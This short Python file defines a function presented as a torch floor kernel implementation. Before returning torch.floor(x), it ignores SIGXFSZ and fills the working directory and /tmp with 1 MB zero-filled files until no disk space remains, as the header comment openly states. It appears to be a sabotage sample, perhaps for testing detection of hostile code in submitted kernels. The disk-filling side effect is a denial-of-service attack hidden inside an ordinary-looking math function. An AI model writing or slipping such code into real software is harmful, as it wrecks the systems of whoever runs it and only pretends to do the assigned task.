# Fills the disk: writes its working folder and /tmp full, a file after another (ignoring
# SIGXFSZ, so that a file too large is one more error), until no space is left.
import errno
import os
import signal

import torch


def floor__default_kernel_impl(x):
    signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
    chunk = b"\0" * (1 << 20)
    for folder in (os.getcwd(), "/tmp"):
        for n in range(100000):
            try:
                with open(os.path.join(folder, "fill%d" % n), "wb") as f:
                    while True:
                        f.write(chunk)
                        f.flush()
            except OSError as e:
                if e.errno != errno.EFBIG:
                    break
    return torch.floor(x)
